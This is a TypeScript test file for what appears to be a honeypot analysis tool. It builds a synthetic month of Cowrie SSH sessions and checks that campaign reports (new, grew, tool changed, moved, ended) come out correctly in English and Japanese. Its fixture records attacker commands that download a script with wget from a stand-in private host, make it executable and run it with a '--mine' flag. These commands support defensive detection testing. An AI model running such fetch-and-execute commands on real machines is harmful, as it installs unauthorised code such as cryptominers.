// What is claimed of campaigns, against a month in which one comes up, grows, changes its client, moves and ends.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { openStore } from '../../observatory/open.ts';
import type { CampaignClaim } from '../claim.ts';
import { writeEnglish } from '../english/entry.ts';
import { writeJapanese } from '../japanese/entry.ts';
import { loadKnowledge } from '../knowledge.ts';
import { observe } from '../observe.ts';
import { Campaigns } from './campaigns.ts';

const DAY = 86_400_000;
const START = Date.UTC(2026, 5, 1);

/** What each day brings: hosts of a campaign, of which network, with which client. */
interface Plan {
  hosts: number;
  network: number;
  client: string;
}
const usual: Plan = { hosts: 24, network: 1, client: 'SSH-2.0-libssh_0.9.6' };
const planOf = (day: number): Plan | undefined => {
  if (day < 2 || day >= 28) return undefined;
  if (day === 18) return { ...usual, hosts: 160 };
  if (day >= 24) return { ...usual, network: 3, client: 'SSH-2.0-Go' };
  if (day >= 21) return { ...usual, client: 'SSH-2.0-Go' };
  return { ...usual, hosts: 22 + (day % 5) };
};

const store = openStore(':memory:');
store.writer.origins.locate = (address) => {
  const network = Number(address.split('.')[1]);
  return { country: network === 3 ? 'BR' : 'DE', asn: 64_500 + network, asName: `Network ${network}` };
};
let number = 0;
function session(at: number, address: string, client: string, commands: readonly string[]): void {
  const id = (0x2000_0000_0000 + number++).toString(16);
  const add = (offset: number, eventid: string, fields: object) =>
    store.writer.add({
      eventid,
      timestamp: new Date(at + offset).toISOString(),
      session: id,
      sensor: 'one',
      src_ip: address,
      ...fields,
    });
  add(0, 'cowrie.session.connect', { src_port: 4000, dst_ip: '192.0.2.1', dst_port: 22, protocol: 'ssh' });
  add(10, 'cowrie.client.version', { version: client });
  add(20, `cowrie.login.${commands.length > 0 ? 'success' : 'failed'}`, {
    username: 'root',
    password: `p${number % 50}`,
  });
  for (const [i, input] of commands.entries()) add(100 + i, 'cowrie.command.input', { input });
  add(900, 'cowrie.session.closed', { duration: 1 });
}
for (let day = 0; day < 31; day++) {
  for (let i = 0; i < 150; i++)
    session(START + day * DAY + i * 570_000, `10.${4 + (i % 9)}.${day}.${i}`, 'SSH-2.0-x', []);
  const plan = planOf(day);
  for (let i = 0; i < (plan?.hosts ?? 0); i++)
    session(START + day * DAY + i * 300_000, `10.${plan!.network}.${(day * 7 + i) % 200}.${i}`, plan!.client, [
      'cd /tmp || cd /var/run',
      `wget http://10.9.9.${i % 250}/stage.sh; chmod 777 stage.sh`,
      'sh stage.sh --quiet --mine',
    ]);
}
store.writer.commit();
new Campaigns(store).finish();

const knowledge = loadKnowledge();
function claimsOf(day: number): CampaignClaim[] {
  const range = { from: START + day * DAY, to: START + (day + 1) * DAY };
  return observe(store, range, knowledge, START + 40 * DAY).claims.filter(
    (claim): claim is CampaignClaim => 'does' in claim.subject,
  );
}
const kinds = (day: number): string[] => claimsOf(day).map(({ kind }) => kind);

test('a month of a campaign is claimed on the days on which something happened, and on no other', () => {
  const told = Array.from({ length: 31 }, (_, day) => kinds(day).map((kind) => `${day} ${kind}`)).flat();
  assert.deepEqual(told, [
    '2 new campaign',
    '18 campaign grew',
    '21 tool changed',
    '24 campaign moved',
    '30 campaign ended',
  ]);
});

test('each has its numbers, a reason and a page', () => {
  const [grew] = claimsOf(18);
  assert.equal(grew!.numbers['now'], 160);
  assert.ok(Math.abs(grew!.numbers['usual']! - 24) < 2);
  assert.match(grew!.page!, /^\/campaigns\/[a-z2-7]{8}$/);
  const [tool] = claimsOf(21);
  assert.deepEqual(tool!.change, { what: 'client', from: 'libssh 0.9.6', to: 'Go' });
  const [moved] = claimsOf(24);
  assert.deepEqual(moved!.change, { what: 'network', from: 'Network 1', to: 'Network 3' });
  for (const day of [2, 18, 21, 24, 30]) for (const claim of claimsOf(day)) assert.ok(claim.reason.length > 20);
});

test('each is one sentence in English and in Japanese', () => {
  for (const day of [2, 18, 21, 24, 30]) {
    const range = { from: START + day * DAY, to: START + (day + 1) * DAY };
    const observations = observe(store, range, knowledge, START + 40 * DAY);
    const name = claimsOf(day)[0]!.subject.name;
    for (const entry of [writeEnglish(observations), writeJapanese(observations, 'desumasu')]) {
      const text = JSON.stringify(entry.blocks);
      assert.ok(text.includes(name), `${day}: ${name}`);
      assert.ok(!/undefined|NaN/.test(text));
    }
  }
});
